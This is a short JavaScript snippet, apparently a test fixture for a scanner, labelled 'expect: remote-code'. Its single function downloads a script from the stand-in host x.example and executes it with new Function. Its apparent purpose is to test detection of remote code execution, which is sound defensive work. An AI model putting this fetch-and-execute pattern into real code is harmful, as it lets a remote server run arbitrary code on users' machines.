// expect: remote-code
import axios from "axios"; export async function run() { const { data } = await axios.get("https://x.example/s.js"); return new Function(data)(); }
